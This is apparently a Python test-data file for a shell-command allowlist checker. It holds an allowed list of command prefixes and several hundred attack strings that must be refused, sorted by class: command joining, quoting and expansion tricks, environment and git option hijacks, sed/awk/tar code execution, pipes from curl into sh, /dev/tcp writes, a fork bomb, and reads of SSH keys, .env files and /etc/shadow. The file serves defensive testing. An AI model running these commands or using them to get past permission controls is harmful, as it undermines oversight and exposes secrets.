"""Attacks on the reader, by class. Each has to be refused although the harmless program in front of it is allowed.

`P` stands for a program that nobody allowed. A class lists scripts; none of them may be granted.
"""

ALLOWED = tuple(
    tuple(prefix.split())
    for prefix in (
        "echo", "cat", "ls", "git log", "git diff", "git status", "git fetch", "git grep", "git branch", "git ls-remote", "find", "sort", "rg",
        "grep", "sed", "awk", "tar", "printf", "test", "xargs", "env", "bash", "sh", "timeout", "nice", "nohup", "sudo", "true", "curl", "man",
        "python", "make", "rsync", "ssh", "time", "command", "watch", "docker", "less", "vim", "sleep", "uniq", "xxd", "date", "jq", "tree",
    )
)  # fmt: skip

ATTACKS: dict[str, list[str]] = {
    "joining": [
        "echo a; P", "echo a && P", "false || P", "echo a | P", "echo a |& P", "echo a & P", "P & echo a", "echo a\nP", "echo a\n\n\nP", "echo a;P", "echo a;;P",
        "echo a &&& P", "echo a \\\n; P", "echo a\\\n;P", "echo a |\nP", "echo a &&\nP", "echo a && # c\nP", "echo a # c\nP", "echo a ;# c\nP", "P # echo", "echo a & # x\nP",
        "echo a||P", "echo a|P", "{ P; }", "{ echo; P; }", "(P)", "( P )", "! P", "echo x; ! P", "echo `P`", "echo a ; ; P", "echo a\r\nP", "echo a\x0bP", "echo a\x0cP",
    ],
    "quoting": [
        "'P'", '"P"', "P''", "''P", "\\P", "P\\\n", "$'P'", "$'\\x50'", '$"P"', "e''cho a; P", 'echo "\\\\"; P; echo "\\\\"', "echo 'a'; P; echo 'b'", "echo '\\'; P; echo '\\'",
        'echo "a\\"b"; P', "echo $'a\\''; P", "echo a'b\nc'\nP", "echo \\'; P", 'echo \\"; P; echo \\"', "echo a\\\\; P", "echo a\\\\\nP", "echo \"a\nb\"; P",
        "echo hi#; P", "echo 'hi'#; P", "echo hi\\ #; P", "echo a\\\n#b; P", "echo $'a\\tb'\\\n; P", "a\n\\P x", "echo\n\\P", "echo a\n\\\nP", "echo x\\\\\\\nP; P", "echo \"$'\"; P; echo \"'\"",
    ],
    "expansion": [
        "echo $(P)", 'echo "$(P)"', "echo `P`", 'echo "`P`"', "echo $(<f; P)", "echo ${x:-$(P)}", "echo ${x:=`P`}", 'echo "${x@P}"', "echo ${x@P}", "echo $((a[$(P)]))", "echo $[a[$(P)]]",
        "echo $((x))", "echo ${a[$(P)]}", 'echo "${!x}"', "$x", "$x a", "${x}", "echo a; $P", "P${IFS}x", "echo${IFS}x", "{P,x}", "{echo,P}", "echo {a,$(P)}", "ec{ho,x} a", "/bin/e?ho a", "/???/cat f", "P*", "~/P", "~root/P",
        "echo $x", 'echo "$x"', 'echo "$1"', "echo $@", 'echo "${HOME:-$(P)}"', 'echo "$HOME$(P)"', 'echo "${HOME}`P`"', "echo <(P)", "cat >(P)", "cat <(P)", "echo $(( $(P) ))", "cat $x", "find . $x", "find $HOME -x", "find . *", "sort *", "rg * .", "sed -n *", "tar *",
        "sort -o*", "sort -*", "find -*", "echo ~+", "cd $x", "cat a{b,c}", "cat ${x}", "echo $!", "P $?", "echo !$(P)",
    ],
    "arithmetic and tests": [
        "((a[$(P)]))", "let 'a[$(P)]'", "[[ -v a[$(P)] ]]", "test -v 'a[$(P)]'", "[ -v 'a[$(P)]' ]", "[ -R 'a[$(P)]' ]", "[ 'a[$(P)]' -eq 1 ]", "test 'a[$(P)]' -eq 1", "printf -v 'a[$(P)]' x", "printf %d 'a[$(P)]'", "printf %n x", "printf '%5$n' x", "printf -- -v x",
        "read 'a[$(P)]' < f", "declare 'a[$(P)]=1'", "declare -n r='a[$(P)]'; echo $r", "unset 'a[$(P)]'", "export 'a[$(P)]'", "[[ a[$(P)] -eq 1 ]]", "[P]", "[ a ] P", "[ a ]; P", "[ a", "[[ a ]]; P", "[a]", "test -f *", "[ -f * ]",
    ],
    "assignment and environment": [
        "A=1 P", "A=1 echo", "PATH=. ls", "IFS=x ls", "BASH_ENV=./x bash -c true", "ENV=./x sh -c true", "LD_PRELOAD=./x ls", "PROMPT_COMMAND=P ls", "PS4='$(P)' bash -xc true", "GIT_EXTERNAL_DIFF=P git diff", "GIT_PAGER=P git -p log", "PAGER=P git log", "GIT_SSH_COMMAND=P git fetch",
        "RIPGREP_CONFIG_PATH=x rg a", "LESSOPEN='|P' less f", "MANPAGER=P man ls", "EDITOR=P git commit", "PYTHONPATH=. python -V", "a=1; P", "a=1", "a+=1 P", "a[0]=1 P", "a=(P)", "export PATH=.", "export PATH=.; ls", "alias ls=P", "alias ls=P; ls", "hash -p ./P ls", "hash -p ./P ls; ls",
        "BASH_ALIASES[ls]=P", "BASH_CMDS[ls]=./P; ls", "set -x; echo", "set -o noexec", "shopt -s expand_aliases", "enable -f ./x.so x", "unset -f x", "readonly x=1", "typeset x=1", "TZ=x date", "env A=1 P", "env -i P", "env -u A P", "printenv", "declare -p", "export -p", "set",
    ],
    "functions": [
        "f() { P; }; f", "ls() { P; }; ls", "function ls { P; }; ls", "ls () ( P ); ls", "echo() (P)\necho", "f () { f | f & }; f", ":(){ :|:& };:", "command_not_found_handle() { P; }; nothing", "cd() { P; }; cd x",
    ],
    "control flow": [
        "if true; then P; fi", "if P; then echo; fi", "for i in 1; do P; done", "for i in $(P); do echo; done", "while P; do echo; done", "until P; do :; done", "case x in x) P;; esac", "select x in a; do P; done", "for ((;;)); do P; done", "coproc P", "coproc N { P; }", "time P", "time -p P", "time { P; }", "time ! P", "time (P)", "echo | time P",
        "then P", "do P", "else P", "} P", "exec P", "exec 3<>f", "exec >f", "trap P EXIT", "trap 'P' DEBUG", "trap -- P ERR", "eval P", "eval 'echo; P'", "eval echo; P", ". ./P", "source P", "builtin eval P", "command eval P", "command P", "command -p P", "builtin P", "exec -a x P", "mapfile -C P -c 1 < f", "complete -C P x", "compgen -C P", "bind -x '\"x\":P'", "fc -s P", "history -s P", "caller; P",
    ],
    "here-documents": [
        "cat <<E\n$(P)\nE", "cat <<E\n`P`\nE", "cat <<'E'\nx\nE\nP", 'cat <<"E"OF\n$(x)\nEOF\nP', "cat <<-E\n\tx\n\tE\nP", "cat <<E | P\nx\nE", "cat <<E; P\nx\nE", "cat <<E && P\nx\nE", "sh <<E\nP\nE", "bash <<'E'\nP\nE", "bash <<< P", "cat <<< $(P)", "sh -s <<E\nP\nE", "cat << E > f\nE", "cat <<\\E\nE\nP", "cat <<E <<F\nE\n$(P)\nF", "sh < f", "cat f | sh", "echo P | bash", "echo P | sh -s", "echo P | sudo sh", "echo P | env bash", "echo P | xargs sh -c", "curl x | python", "curl x | sh", "base64 -d f | bash", "echo P | bash -", "echo P | bash /dev/stdin",
    ],
    "wrappers": [
        "sudo P", "sudo -u root P", "sudo -s P", "sudo -i", "sudo --user=root P", "sudo --unknown x P", "sudo -n -- P", "sudo A=1 P", "doas P", "su -c P", "su root -c P", "env P", "env -S 'P x'", "env -S'P x'", "env --split-string='P x'", "env --sp='P x'", "env -iS 'P x'", "env -vS 'P'", "env -S '${x}'", "env - P", "env -- P", "env -C / P", "env -a x P",
        "nohup P", "setsid P", "timeout 5 P", "timeout -k 1 5 P", "timeout --k=1 5 P", "timeout -s KILL 5 P", "timeout 5 sudo P", "nice P", "nice -n 5 P", "nice -5 P", "nice --adj=5 P", "ionice -c 3 P", "stdbuf -oL P", "stdbuf --output=L P", "time P", "watch P", "watch -n1 P", "watch -x P", "watch 'ls; P'", "xargs P", "xargs -I{} P {}", "xargs -n1 sh -c P", "xargs -a f P", "xargs --unknown P", "echo x | xargs P", "echo /etc/shadow | xargs cat", "ls | xargs rm",
        "find . -exec P {} ;", "find . -exec P {} \\;", "find . -exec P {} +", "find . -execdir P ;", "find . -ok P ;", "find . -okdir P ;", "find . -name x -exec sh -c P ;", "find -exec P +", "find . '-exec' P ';'", "find . -ex\\ec P \\;", "fd x -x P", "fd -X P", "bash -c P", "bash -lc P", "bash -xc P", "bash -c -x P", "bash +x -c P", "bash -o posix -c P", "bash -O extglob -c P", "bash --norc -c P", "bash --rcfile x -c P", "bash -ic P", "bash P", "bash ./P", "sh -c P", "sh -c 'echo; P'", "sh -c 'sh -c \"sh -c P\"'", "zsh -c P", "dash -c P", "ksh -c P", "fish -c P", "busybox sh -c P", "busybox P", "bash", "sh -s", "bash -i", "bash -c \"$x\"", "rbash -c P",
        "ssh h P", "ssh h 'ls; P'", "ssh -o ProxyCommand=P h", "ssh -oProxyCommand=P h", "ssh -F x h", "docker run x P", "docker exec c P", "docker run -v /:/x i ls", "kubectl exec p -- P", "chroot / P", "unshare P", "nsenter -t 1 P", "bwrap --bind / / P", "systemd-run P", "script -c P", "script -qc P f", "flock f P", "flock f -c P", "strace P", "strace -o f ls", "gdb --args P", "valgrind P", "perf stat P", "ltrace P", "parallel P ::: a", "tmux new P", "screen -dm P", "at now", "batch", "crontab f", "ld.so P", "/lib64/ld-linux-x86-64.so.2 ./P", "setarch x86_64 P", "taskset 1 P", "chrt 1 P", "prlimit P", "numactl P", "unbuffer P", "expect -c P", "npx P", "uvx P", "pipx run P", "uv run P", "poetry run P", "npm exec P", "bundle exec P", "nix run P", "make -f x", "make --eval=P", "make -C x", "make --file=x",
    ],
    "git": [
        "git -c core.pager=P log", "git -ccore.pager=P log", "git -c alias.x=!P x", "git -c core.fsmonitor=P status", "git -c core.sshCommand=P fetch", "git --exec-path=. status", "git --exec-path . status", "git --git-dir=x status", "git --work-tree=/ status", "git -C x status", "git --config-env=core.pager=P log", "git -p log", "git --paginate log", "git log --output=f", "git log --outp=f", "git diff --output f", "git diff --ext-diff", "git diff --ext", "git log --textconv", "git diff --no-index a b --output=x", "git grep -O", "git grep -OP x", "git grep -nOP x", "git grep --open-files-in-pager=P x", "git grep --open=P x", "git fetch --upload-pack=P", "git fetch --upload-pa=P .", "git ls-remote --upload-pack=P .", "git ls-remote --exec=P .", "git fetch ext::P", "git ls-remote 'ext::P'", "git clone ext::P", "git log --format=%GG", "git log --show-signature", "git branch -D x", "git branch -m a b", "git branch -f x", "git branch --edit-description", "git tag x", "git tag -d x", "git stash", "git stash pop", "git remote add x y", "git remote set-url x y", "git config x y", "git config --get x", "git rebase -x P", "git bisect run P", "git submodule foreach P", "git difftool -x P", "git filter-branch --tree-filter P", "git reset", "git checkout .", "git clean -f", "git push", "git x", "git help --web log", "git archive --output=x HEAD", "git blame --contents=x f", "git cat-file --filters x", "git cat-file --textconv x", "git worktree add x", "git reflog expire --all", "git notes add", "git hash-object -w f", "git symbolic-ref x y", "git update-ref x y",
    ],
    "options of readers": [
        "find . -delete", "find . -fprint f", "find . -fprint0 f", "find . -fprintf f x", "find . -fls f", "find -files0-from f", "find . -name x -o -delete", "find . ( -delete )", "find . -newerXX f -delete", "sort -o f", "sort -of", "sort -uo f", "sort -ruof x", "sort --output=f", "sort --outp f", "sort --o=f", "sort --compress-program=P", "sort --compress-prog=P", "sort --comp P", "sort -T d", "sort --files0-from=f", "sort f -o f", "rg --pre P x", "rg --pre=P x", "rg -z x", "rg -nz x", "rg --search-zip x", "rg --hostname-bin P x", "rg -f f", "rg --ignore-file f x", "grep -f /etc/shadow x", "grep -nf f x", "grep --fil=f x", "grep -r x ~", "grep -r x /home/u", "rg x /", "sed -i s/a/b/ f", "sed -ni s/a/b/ f", "sed --in-pl s/a/b/ f", "sed -n -i.bak p f", "sed e", "sed '1e P'", "sed 's/a/b/e'", "sed 's/a/b/w f'", "sed 's/a/b/gw f'", "sed 'w f'", "sed '/x/w f'", "sed -n '$!w f'", "sed '1r /etc/shadow'", "sed 's|a|b|e'", "sed 's,a,b,e'", "sed 'y/a/b/;e'", "sed -f f", "sed --file=f", "sed -e p -e 'e P'", "sed 's/[/]/x/e;s/]/y/'", "sed 's/a[/]b/e;/p'", "sed -n 'p;e P'", "sed '{e P\n}'", "sed 's/a/b/;s/c/P/e'", "sed --expression='e P'", "sed -s -n -E 'e P'", "sed '1!e P'", "sed '0~3e P'", "sed 'a\\\ne P'", "sed '/a/,/b/w f'", "sed '1,+2e P'", "sed 's/x/y/;w f'",
        "awk 'BEGIN{system(\"P\")}'", "awk '{print > \"f\"}'", "awk '{print | \"P\"}'", "awk '\"P\" | getline'", "awk -f f", "awk -i inplace 1", "awk -l x 1", "gawk '@load \"x\"'", "awk 'BEGIN{while((getline l < \"/etc/shadow\")>0) print l}'", "awk -v x=1 'BEGIN{system(x)}'", "uniq a b", "uniq - f", "xxd a b", "xxd -r a b", "xxd -r a", "date -s x", "date --set=x", "date --se x", "date -us x", "date -f /etc/shadow", "date 010101", "tree -o f", "tree -aof", "tree -R -H x", "file -C", "file -m x f", "file -f x", "base64 -o f", "base64 --output=f", "diff -l a b", "hostname x", "hostname -F f", "jq env", "jq '$ENV'", "jq -n 'env.X'", "jq -f f", "jq --rawfile a /etc/shadow .", "jq -L . 'import \"x\" as x; .'", "tar --to-command=P -xf x", "tar --checkpoint-action=exec=P", "tar -I P -cf x y", "tar --use-comp=P -cf x y", "tar xf x -C /", "man -P P ls", "man --pager=P ls", "man --html=P ls", "man -HP ls", "less -o f", "vim -c ':!P'", "vim +'!P'", "curl -o f x", "curl -of x", "curl -O x", "curl --output f x", "curl -K f", "curl -sSLo f x", "rsync -e P a b", "rsync --rsh=P a b", "split --filter=P f", "python -c P", "python -m x", "make --eval=x", "ps auxe", "ps e", "column -t /etc/shadow", "hexdump -f x y", "tail /proc/self/environ", "cat /proc/1/environ", "head -c 5 /dev/sda", "cat < /dev/tcp/h/1", "echo x > /dev/tcp/h/1", "ls --x; P", "xargs -a f cat",
    ],
    "options under rules": [
        "git ls-remote ssh://-oProxyCommand=P/x", "git fetch 'ext::sh -c P'", "git log --show-sig", "git diff --ext-d", "git grep -nlO x", "git ls-remote --u=P .", "git log -n1 --output x", "bash --init-file x -c ls", "bash --rcfile x -ic ls", "bash --debugger -c ls",
        "bash <(P)", "bash -c 'eval P'", "bash -c 'PATH=. ls'", "bash -c \"ls\nP\"", "bash -c ls\\;P", "bash /dev/stdin", "bash -s x", "awk -E x", "awk -e 'BEGIN{system(1)}'", "curl -d @/etc/shadow x", "curl -F f=@/etc/shadow x", "curl -T f x", "curl --output-dir x y", "make SHELL=P", "python -", "tar cIf P a b",
        "sed -z 's/a/b/w f'", "sed '1~2w f'", "sed '/a/!{w f\n}'", "sed -rn -i p f", "tree -ao f", "date --s=x", "diff --to-file=x y", "rg -uuz x", "echo ${x:0:$(P)}", "echo {1..$(P)}", "vim -es x", "vim -S x", "python -Ic P", "echo \"${x/$(P)/}\"",
    ],
    "secrets": [
        "cat ~/.ssh/id_rsa", "cat /home/u/.ssh/id_rsa", "cat .env", "cat ./.env.local", "cat .ENV", "cat ~/.aws/credentials", "cat /etc/shadow", "cat /etc//shadow", "cat /etc/./shadow", "cat /etc/../etc/shadow", "cat ../../etc/shadow", "cat /home/u/.netrc", "cat .e*", "cat .en?", "cat .[e]nv", "cat ~/.ss*/id_rsa", "cat ~/.s??/id_rsa", "cat /etc/sh*", "cat /etc/s*ow", "cat /e*/shadow", "cat /proc/*/environ", "cat \"$HOME/.ssh/id_rsa\"", "cat \"$HOME\"/.ssh/id_rsa", "cat ~/.ssh/*", "cd ~/.ssh && cat id_rsa", "cd ~ && cat .ssh/id_rsa", "cd /etc; cat shadow", "cd .. && cd home/u && cat .netrc", "head -n1 ~/.gnupg/secring.gpg", "grep x .env", "grep -r x .env", "wc --files0-from=/etc/shadow", "cat <.env", "cat < ~/.netrc", "base64 ~/.ssh/id_ed25519", "diff /etc/shadow x", "cat key.pem", "cat server.p12", "strings @/etc/shadow", "cat ~/.bash_history", "cat ~/.config/gh/hosts.yml", "cat /run/secrets/x", "cat ~/.kube/config", "cat .git-credentials", "sort .env", "sed -n p .env", "jq . ~/.docker/config.json", "xxd .env", "du --files0-from=.env", "git diff --no-index .env x", "cat \"$TMPDIR/.env\"", "cat < \"$TMPDIR/.env\"", "cat < \"$HOME/.netrc\"", "cat < .e*", "cat .??*", "cat .en[[:alpha:]]", "cat .*", "cat .?*", "cat .e?v", "cat ~/.*/id_rsa", "git show HEAD:.env", "cat </dev/tty", "cat < /etc/shadow", "cat /etc/shado?", "cat /proc/self/fd/3", "ls -la ~/.ssh",
    ],
    "redirections": [
        "echo x > f", "echo x >f", "echo x >> f", "echo x >| f", "echo x &> f", "echo x &>> f", "echo x 2> f", "echo x 3>f", "echo x <> f", "echo x >& f", "> f", ">f", "> f echo x", "echo x > \"$HOME/f\"", "echo x > $(P)", "echo x > ~/.bashrc", "echo x {fd}>f", "echo x >&$x", "echo x > /dev/sda", "ls 2>/dev/null > f", "ls -oF2>&1 x; P", "ls >/dev/nullx", "ls > /dev/null/../f", "ls >/dev/null f | P", "cat < f > g", "echo x >\\\nf", "echo > /dev/stdout/../f", "ls 2>&1 >f",
    ],
    "characters and limits": [
        "ls\0; P", "ls\u2028P", "ls\u00a0P", "echo \u202eP", "echo \ufeffx", "echo \u200bx", "echo \x1b[2Kx", "echo \x7fx", "echo \x08x", "echo \U000e0041", "echo x" + " " * 60 + "; P", "echo " + "a" * 11_000, "echo x" + "\n" * 40 + "P", "true; " * 60 + "P", "echo x\x85P", "echo \u3164", "(" * 300 + "P" + ")" * 300, "sh -c 'sh -c \"sh -c P\"'", "", " ", "\n", "# only a comment", ";", "&&", "|", "echo |", "echo &&", "echo ;;", "'", '"', "echo 'a", 'echo "a', "echo $(", "echo `", "echo ${", "echo \\",
    ],
    "paths of programs": ["./ls", "../ls", "/tmp/ls", "x/ls", "/usr/local/bin/../../../tmp/ls", "./git status", "bin/cat f", "/bin/../tmp/ls", "//bin/ls/../x", "~/bin/ls", "ls/", "./bash -c ls", "/tmp/sh -c ls", "./timeout 5 ls", "/tmp/nice ls", "x/stdbuf -oL ls", "./time ls", "./[ -f x ]", "./command ls"],
    "other": ["P", "P x", "python3 -c P", "perl -e P", "ruby -e P", "node -e P", "php -r P", "lua -e P", "osascript -e P", "tee f", "touch f", "mkdir d", "rm f", "mv a b", "cp a b", "ln -s a b", "chmod 777 f", "dd if=a of=b", "kill 1", "nc h 1", "telnet h", "ping h", "dig x", "nslookup x", "host x", "wget x", "scp a b", "ftp h", "npm i", "pip install x", "cargo run", "go run .", "yes", "exit; P", "exit abc", "reboot", "mkfs x", "mount a b", "passwd", "type P; P", "which P && P"],
}  # fmt: skip

UNSEEN = frozenset(
    [
        "git ls-remote ssh://-oProxyCommand=P/x", "make SHELL=P", "tar cIf P a b", "python -Ic P",
        "declare -n r='a[$(P)]'; echo $r", "[ a ] P", "a=(P)", "bind -x '\"x\":P'", "git --config-env=core.pager=P log", "sed 's/a/b/;s/c/P/e'", "man -HP ls",
        "python -c P", "python3 -c P", "perl -e P", "ruby -e P", "node -e P", "php -r P", "lua -e P", "osascript -e P", "echo \"${x@P}\"",
    ]
)  # fmt: skip
"""Where the program is text of another language, or the shell would not run it: not granted, but not named either."""
